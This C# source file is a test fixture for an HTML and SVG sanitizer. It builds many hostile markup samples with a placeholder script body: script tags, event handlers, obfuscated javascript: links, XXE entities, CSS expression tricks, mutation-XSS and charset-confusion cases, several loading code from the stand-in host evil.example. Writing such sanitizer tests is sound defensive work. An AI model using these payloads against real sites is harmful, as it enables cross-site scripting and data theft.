using System.Text;

namespace Sekisho.Sanitizer.Tests.Hostile;

/// <summary>Rows S-01 … S-07 and H-01 … H-10: drawings and pages.</summary>
internal static class HostileMarkup
{
    private const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 9 9\">";

    public static IEnumerable<HostileFile> All() => Drawings().Concat(Pages()).Concat(Styles()).Concat(Codes());

    private static HostileFile Draw(string threat, string what, string inside, params string[] needles) => new(threat, what, "a.svg", Encoding.UTF8.GetBytes($"{Svg}<text>nokoru</text>{inside}</svg>"), [HostileFile.Mark, .. needles]) { Kept = ["nokoru"] };

    private static HostileFile Page(string threat, string what, string inside, params string[] needles) => new(threat, what, "a.html", Encoding.UTF8.GetBytes($"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>t</title></head><body><p>nokoru</p>{inside}</body></html>"), [HostileFile.Mark, .. needles]) { Kept = ["nokoru"] };

    private static IEnumerable<HostileFile> Drawings()
    {
        yield return Draw("S-01", "script", "<script>KAMAKIRI</script>", "<script");
        yield return Draw("S-01", "script of a prefix and in CDATA", "<q:script xmlns:q=\"http://www.w3.org/2000/svg\"><![CDATA[KAMAKIRI]]></q:script>", "script");
        yield return Draw("S-01", "script from elsewhere", "<script xlink:href=\"http://evil.example/KAMAKIRI.js\"/>", "evil.example");
        yield return Draw("S-02", "handlers", "<rect width=\"9\" height=\"9\" onload=\"KAMAKIRI\" onclick=\"KAMAKIRI\"/><g onbegin='KAMAKIRI'/>", "onload", "onbegin");
        yield return Draw("S-02", "a handler written by references", "<rect width=\"9\" onmouseover=\"&#75;AMAKIRI\"/>", "onmouseover");
        foreach (var address in (string[])["javascript:KAMAKIRI", "java&#x0A;script:KAMAKIRI", " JAVASCRIPT&#58;KAMAKIRI", "data:text/html;base64,S0FNQUtJUkkgS0FNQUtJUkk=", "data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='KAMAKIRI'/>", "vbscript:KAMAKIRI"])
            yield return Draw("S-03", $"link to {address[..9]}", $"<a href=\"{address}\"><text>a</text></a><a xlink:href=\"{address}\"><text>b</text></a>") with { Case = $"link to {address[..Math.Min(26, address.Length)].Replace("KAMAKIRI", "…", StringComparison.Ordinal)}", Told = address.StartsWith("vb", StringComparison.Ordinal) || address.Contains("&#", StringComparison.Ordinal) ? "" : "S-03" };
        yield return Draw("S-03", "a drawing in a drawing's picture", $"<image href=\"data:image/svg+xml;base64,{Convert.ToBase64String("<svg xmlns='http://www.w3.org/2000/svg'><script>KAMAKIRI</script></svg>"u8)}\" width=\"9\" height=\"9\"/>", "<script");
        yield return Draw("S-04", "a page in a drawing", "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"http://evil.example/KAMAKIRI\"/></body></foreignObject>", "foreignObject", "iframe");
        yield return Draw("S-05", "references outside", "<image href=\"http://evil.example/KAMAKIRI.png\"/><use href=\"http://evil.example/KAMAKIRI.svg#a\"/><rect fill=\"url(http://evil.example/KAMAKIRI#a)\"/><feImage href=\"http://evil.example/KAMAKIRI\"/><style>@import 'http://evil.example/KAMAKIRI.css'; rect{fill:url('http://evil.example/KAMAKIRI')} @font-face{src:url(http://evil.example/KAMAKIRI)}</style>", "evil.example", "@import");
        yield return Draw("S-05", "an address in a style, escaped", "<rect style=\"fill:u\\72l(http://evil.example/KAMAKIRI)\"/>", "evil.example") with { Told = "H-07" };
        yield return new HostileFile("S-05", "a style sheet before the drawing", "a.svg", Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/KAMAKIRI.xsl\"?>{Svg}<text>nokoru</text></svg>"), HostileFile.Mark, "xml-stylesheet");
        yield return new HostileFile("S-06", "entities", "a.svg", Encoding.UTF8.GetBytes($"<!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///KAMAKIRI\">]>{Svg}<text>&k;</text></svg>"), HostileFile.Mark) { Refused = "SAN-XML-002" };
        yield return new HostileFile("S-06", "entities in UTF-16", "a.svg", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"<!DOCTYPE svg [<!ENTITY k \"KAMAKIRI\">]>{Svg}<text>&k;</text></svg>")], HostileFile.Mark) { Refused = "SAN-XML-002" };
        yield return new HostileFile("S-06", "a document type from elsewhere", "a.svg", Encoding.UTF8.GetBytes($"<!DOCTYPE svg SYSTEM \"http://evil.example/KAMAKIRI.dtd\">{Svg}<text>nokoru</text></svg>"), HostileFile.Mark, "DOCTYPE");
        yield return Draw("S-07", "a link that moves", "<a href=\"#a\"><animate attributeName=\"href\" values=\"javascript:KAMAKIRI\"/><set attributeName=\"xlink:href\" to=\"javascript:KAMAKIRI\"/><text>x</text></a>", "<animate", "<set");
    }

    private static IEnumerable<HostileFile> Pages()
    {
        yield return Page("H-01", "script", "<script>KAMAKIRI</script><SCRIPT SRC=//evil.example/KAMAKIRI></SCRIPT><scr<script>ipt>x</scr</script>ipt>", "<script");
        yield return Page("H-02", "handlers", "<img src=x onerror=KAMAKIRI><p OnClick='KAMAKIRI' onpointerenter=KAMAKIRI>x</p><body onload=KAMAKIRI><details ontoggle=KAMAKIRI open>", "onerror", "ontoggle", "onpointerenter");
        yield return Page("H-02", "a handler behind a slash and a line end", "<p/onclick=KAMAKIRI><b\nonmouseover\n=\nKAMAKIRI>x</b>", "onclick", "onmouseover");
        foreach (var address in (string[])["javascript:KAMAKIRI", "&#106;avascript&colon;KAMAKIRI", "java\tscript:KAMAKIRI", "&#1;javascript:KAMAKIRI", "vbscript:KAMAKIRI", "data:text/html,KAMAKIRI", "feed:javascript:KAMAKIRI", "jav&Tab;ascript&#58KAMAKIRI", "//evil/KAMAKIRI", "file:///KAMAKIRI", "ms-msdt:KAMAKIRI", "\\\\evil\\KAMAKIRI", "https://x@KAMAKIRI.example/"])
            yield return Page("H-03", $"link to {address[..Math.Min(16, address.Length)].Replace("KAMAKIRI", "…", StringComparison.Ordinal).Replace("\u0001", "^", StringComparison.Ordinal).Replace("\t", "⇥", StringComparison.Ordinal)}", $"<a href=\"{address}\">koko</a>");
        yield return Page("H-04", "frames, objects, base, links and refresh", "<iframe src=http://evil.example/KAMAKIRI srcdoc='&lt;script>KAMAKIRI'></iframe><object data=http://evil.example/KAMAKIRI><embed src=KAMAKIRI></object><applet code=KAMAKIRI></applet><base href=http://evil.example/KAMAKIRI><link rel=import href=http://evil.example/KAMAKIRI><meta http-equiv=refresh content='0;url=http://evil.example/KAMAKIRI'><portal src=KAMAKIRI></portal>", "iframe", "srcdoc", "refresh", "<base");
        yield return Page("H-04", "refresh in mixed case with an entity", "<META HTTP-EQUIV=\"&#82;efresh\" CONTENT=\"0;URL=data:text/html,KAMAKIRI\">");
        yield return Page("H-05", "forms", "<form action=http://evil.example/KAMAKIRI><input name=KAMAKIRI formaction=javascript:KAMAKIRI><button formaction=//KAMAKIRI>nokoru</button><textarea>KAMAKIRI</textarea></form>", "<form", "formaction");
        yield return Page("H-06", "pictures from outside", "<img src=http://track.example/KAMAKIRI.gif width=1 height=1><img srcset='http://track.example/KAMAKIRI 2x'><picture><source srcset=//track.example/KAMAKIRI></picture><table background=http://track.example/KAMAKIRI><tr><td background=KAMAKIRI>x</table><video poster=http://track.example/KAMAKIRI></video><input type=image src=KAMAKIRI>", "track.example", "srcset", "poster");
        yield return Page("H-06", "a picture in data: that is none", $"<img src=\"data:image/png;base64,{Convert.ToBase64String("<script>KAMAKIRI</script>"u8)}\"><img src=\"data:image/svg+xml;base64,{Convert.ToBase64String("<svg xmlns='http://www.w3.org/2000/svg'><script>KAMAKIRI</script></svg>"u8)}\">", "<script");
        yield return Page("H-08", "comments of one browser", "<!--[if gte IE 5]><script>KAMAKIRI</script><![endif]--><![if !mso]><p>x</p><![endif]><!--KAMAKIRI--!><xml><o:OLEObject>KAMAKIRI</o:OLEObject></xml>", "[if", "OLEObject");
        yield return Page("H-09", "noscript, template and other trees", "<noscript><p title=\"</noscript><img src=x onerror=KAMAKIRI>\"></noscript><template><script>KAMAKIRI</script></template><svg><style><img src=x onerror=KAMAKIRI></style></svg><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=KAMAKIRI&gt;\">", "onerror", "<svg", "<math");
        yield return Page("H-09", "a mutation by namespaces", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=KAMAKIRI>", "onerror");
        yield return Page("H-09", "plain text to the end", "<xmp><p title=\"</xmp><script>KAMAKIRI</script>\"></xmp><listing>&lt;img onerror=KAMAKIRI&gt;</listing>", "script");
    }

    private static IEnumerable<HostileFile> Styles()
    {
        foreach (var style in (string[])["background:url(http://evil.example/KAMAKIRI)", "width:expression(KAMAKIRI)", "-moz-binding:url(//evil.example/KAMAKIRI)", "behavior:url(KAMAKIRI.htc)", "background:u\\72 l(http://evil.example/KAMAKIRI)", "background:\\75\\72\\6c(KAMAKIRI)", "background:u/**/rl(KAMAKIRI)", "background-image:image-set('http://evil.example/KAMAKIRI' 1x)", "content:attr(KAMAKIRI)", "color:red;background:url(  'java\\script:KAMAKIRI'  )", "background:var(--KAMAKIRI)", "width:exp/*x*/ression(KAMAKIRI)"])
        {
            var what = style[..Math.Min(22, style.Length)].Replace("KAMAKIRI", "…", StringComparison.Ordinal);
            yield return Page("H-07", $"a style: {what}", $"<p style=\"{style.Replace("\"", "&quot;", StringComparison.Ordinal)}\">nokoru</p>") with { Told = style.Contains("var(", StringComparison.Ordinal) || style.Contains("attr(", StringComparison.Ordinal) ? "" : "H-07" };
            yield return Page("H-07", $"a rule: {what}", $"<style>p{{{style}}}</style>") with { Told = style.Contains("var(", StringComparison.Ordinal) || style.Contains("attr(", StringComparison.Ordinal) ? "" : "H-07" };
        }
        yield return Page("H-07", "imports, fonts and an end of the style that isn't one", "<style>@import 'http://evil.example/KAMAKIRI.css';@\\69mport url(KAMAKIRI);@font-face{font-family:KAMAKIRI;src:url(//evil.example/KAMAKIRI)}@namespace url(KAMAKIRI);</style><style>p{color:'</style><script>KAMAKIRI</script>'}</style>", "@import", "@font-face");
    }

    private static IEnumerable<HostileFile> Codes()
    {
        HostileFile New(string what, byte[] bytes, params string[] needles) => new("H-10", what, "a.html", bytes, [HostileFile.Mark, .. needles]) { Told = "" };
        // What a reader of UTF-7 would take for a script stays as the text it is in every other code: nothing declares UTF-7 in what comes out, and the head says UTF-8.
        yield return new HostileFile("H-10", "a script in UTF-7", "a.html", Encoding.ASCII.GetBytes("<html><head><meta charset=utf-7></head><body><p>nokoru</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</body></html>"), "charset=utf-7") { Told = "", Kept = ["charset=\"utf-8\""] };
        yield return New("a script in UTF-16 without a mark", Encoding.Unicode.GetBytes("<html><script>KAMAKIRI</script><p>x</p></html>"), "<script") with { Refused = "SAN-TEXT-001" };
        yield return New("a script in UTF-16 with a mark", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><script>KAMAKIRI</script><p>x</p></html>")], "<script") with { Told = "H-01" };
        yield return New("escapes of ISO-2022-JP around an attribute", Encoding.Latin1.GetBytes("<html><head><meta charset=iso-2022-jp></head><body><p title=\"\u001B$B\">nokoru<p \u001B(B onclick=KAMAKIRI x=\"\"></body></html>")) with { Told = "" };
        yield return New("a mark of UTF-8 and another charset", [0xEF, 0xBB, 0xBF, .. "<html><head><meta charset=shift_jis></head><body><img src=x onerror=KAMAKIRI>x</body></html>"u8], "onerror") with { Told = "H-06" };
        // Browsers let the quote stand, others swallow it: what comes out is UTF-8, and read in one way.
        yield return new HostileFile("H-10", "a lead byte that swallows a quote", "a.html", [.. "<html><head><meta charset=shift_jis></head><body><p title=\""u8, 0x81, .. "\"onclick=KAMAKIRI x=\">nokoru</p></body></html>"u8], "\u0081\"onclick") { Told = "", Kept = ["nokoru"] };
    }
}
